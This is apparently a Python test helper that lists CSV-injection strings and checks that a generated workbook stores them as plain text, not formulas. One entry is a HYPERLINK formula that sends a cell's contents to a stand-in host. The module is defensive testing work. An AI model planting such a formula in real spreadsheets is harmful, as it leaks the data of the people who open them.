"""Text a spreadsheet program would run as a formula (OWASP, "CSV Injection"), and the check that
a workbook the project wrote holds it as text."""

from __future__ import annotations

from pathlib import Path

import openpyxl

from evalasn.sheets import formula_cells

# (readable id, text): every first character Excel and LibreOffice take as the start of a formula
FORMULAS = (
    ("hyperlink", '=HYPERLINK("http://x/?d="&A1,"Klik")'),
    ("equals", "=1+1"),
    ("nip-like", "=1+2"),
    ("at", "@SUM(A1)"),
    ("plus", "+1"),
    ("minus", "-1+1"),
    ("tab", "\t=1"),
    ("carriage-return", "\r=1"),
)
TEXTS = tuple(text for _, text in FORMULAS)


def texts_in(path: Path) -> set[str]:
    """The string cells of the workbook at ``path``, after checking it holds no formula at all."""
    book = openpyxl.load_workbook(path)
    found = formula_cells(book)
    assert not found, f"formula cells in {path.name}: {found[:5]}"
    return {cell.value for sheet in book.worksheets for cells in sheet.iter_rows() for cell in cells
            if isinstance(cell.value, str)}
